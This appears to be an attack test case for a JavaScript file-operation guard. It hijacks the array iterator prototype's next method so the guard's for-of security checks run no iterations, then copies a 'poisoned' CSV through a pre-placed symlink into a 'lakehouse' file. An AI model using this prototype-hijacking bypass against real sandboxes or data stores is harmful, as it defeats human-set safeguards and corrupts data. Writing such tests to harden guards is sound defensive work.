/* @attack {"title": "hijack %ArrayIteratorPrototype%.next so for-of loops over arrays end at once: the guard's combined checks (copyFile: read the source, write the destination) run none; copy onto the pre-placed symlink to the lakehouse", "setup": ["abs-symlink-to-lakehouse"]} */
import fs from 'node:fs';
const dir = process.env.SLEEVE_RUN_DIR;
for (let i = 0; i < 400 && !fs.existsSync(`${dir}/.ready`); i++) await new Promise((r) => setTimeout(r, 25));
fs.writeFileSync(`${dir}/payload.csv`, 'poisoned: the checks loop never ran\n');
const ArrayIterator = Object.getPrototypeOf([][Symbol.iterator]());
const realNext = ArrayIterator.next;
let hijacked = false;
try {
  ArrayIterator.next = () => ({ done: true, value: undefined });
  hijacked = true;
} catch {
  // read-only: the copy below must then be refused
}
try {
  fs.copyFileSync(`${dir}/payload.csv`, `${dir}/lake.csv`);
} finally {
  if (hijacked) ArrayIterator.next = realNext;
}
// What the trick must not amount to: the plain copy, which must be refused.
fs.copyFileSync(`${dir}/payload.csv`, `${dir}/lake.csv`);
